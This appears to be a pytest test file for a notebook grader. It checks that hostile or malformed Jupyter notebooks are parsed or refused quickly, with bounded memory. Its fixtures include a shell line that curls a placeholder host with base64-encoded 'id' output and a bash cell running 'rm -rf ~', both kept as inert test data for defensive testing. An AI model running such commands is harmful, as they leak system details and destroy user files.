"""Whatever is handed in is read or refused in a sentence, quickly, with bounded memory, in a process that lives on."""

from __future__ import annotations

import json
import subprocess
import sys
import time
from pathlib import Path

import pytest
from support.hostile import BOMBS, HANDED, Handed, cell, notebook

from grader.notebook.cells import definitions, definitions_only, source_of
from grader.notebook.model import Cell
from grader.notebook.read import BadNotebook, read

SHELL = [
    "!curl http://example.invalid/$(id | base64)\n",
    "%run ../other.py\n",
    "%env PYTHONPATH=elsewhere\n",
    "files = !ls\n",
    "get_ipython().system('id')\n",
    "torch?\n",
    "x = 1\n",
]


@pytest.mark.parametrize("handed", HANDED.values(), ids=HANDED)
def test_a_file_is_read_or_refused_in_a_sentence(handed: Handed, tmp_path: Path) -> None:
    path = tmp_path / handed.name
    path.write_bytes(handed.data)
    started = time.process_time()
    if handed.told:
        with pytest.raises(BadNotebook) as caught:
            read(path)
        assert str(caught.value).startswith(f"{handed.name}: {handed.told}")
        assert "\n" not in str(caught.value)
    else:
        found = read(path)
        assert tuple(each.source for each in found.cells) == handed.sources
        json.dumps(found.node).encode()
        assert len({each["id"] for each in found.node["cells"]}) == len(found.cells)
    assert time.process_time() - started < 5


def test_a_million_cells_cost_no_more_memory_than_their_file(tmp_path: Path) -> None:
    path = tmp_path / "a.ipynb"
    path.write_bytes(HANDED["a million cells"].data)
    code = (
        "import resource, sys\nfrom pathlib import Path\nfrom grader.notebook.read import BadNotebook, read\n"
        "peak = lambda: resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024\nbefore = peak()\n"
        "try:\n    read(Path(sys.argv[1]))\nexcept BadNotebook:\n    print(peak() - before)"
    )
    done = subprocess.run([sys.executable, "-c", code, str(path)], capture_output=True, text=True, check=True)
    assert int(done.stdout) < 4 * len(HANDED["a million cells"].data)


@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS)
def test_code_that_kills_parsers_costs_its_own_cell_only(bomb: str) -> None:
    cells = [Cell(1, bomb, "code"), Cell(2, "def f(): return 1", "code")]
    started = time.process_time()
    assert definitions(cells)["f"] == (2,)
    assert source_of(cells, ["f"]) == ("def f(): return 1", (2,))
    definitions_only(bomb)
    assert time.process_time() - started < 3


def test_all_bombs_in_one_notebook_are_given_up_in_time() -> None:
    cells = [Cell(number, bomb, "code") for number, bomb in enumerate([*BOMBS.values()] * 20, start=1)]
    started = time.process_time()
    definitions([*cells, Cell(1_000, "x = 1", "code")])
    assert time.process_time() - started < 10


def test_code_that_is_parsed_leaves_the_process_its_stack() -> None:
    code = (
        "import sys\nsys.path.insert(0, sys.argv[1])\nfrom support.hostile import BOMBS\n"
        "from grader.notebook.cells import definitions\nfrom grader.notebook.model import Cell\n"
        "print(*(len(definitions([Cell(1, bomb, 'code')])) for bomb in BOMBS.values()))"
    )
    tests = str(Path(__file__).parents[1])
    done = subprocess.run([sys.executable, "-c", code, tests], capture_output=True, text=True, check=False)
    assert (done.returncode, done.stderr) == (0, "")


def test_shell_and_magics_leave_the_rest_of_the_notebook_readable(tmp_path: Path) -> None:
    path = tmp_path / "a.ipynb"
    sources = (SHELL, "%%bash\nrm -rf ~\nx=2\n", "import asyncio\nawait asyncio.sleep(0)")
    path.write_text(notebook(*map(cell, sources)))
    cells = read(path).code
    assert [each.source for each in cells] == ["".join(SHELL), "%%bash\nrm -rf ~\nx=2\n", sources[2]]
    assert definitions(cells) == {"files": (1,), "x": (1,), "asyncio": (3,)}
    assert source_of(cells, ["files", "x"]) == ("files = !ls\n\nx = 1", (1,))
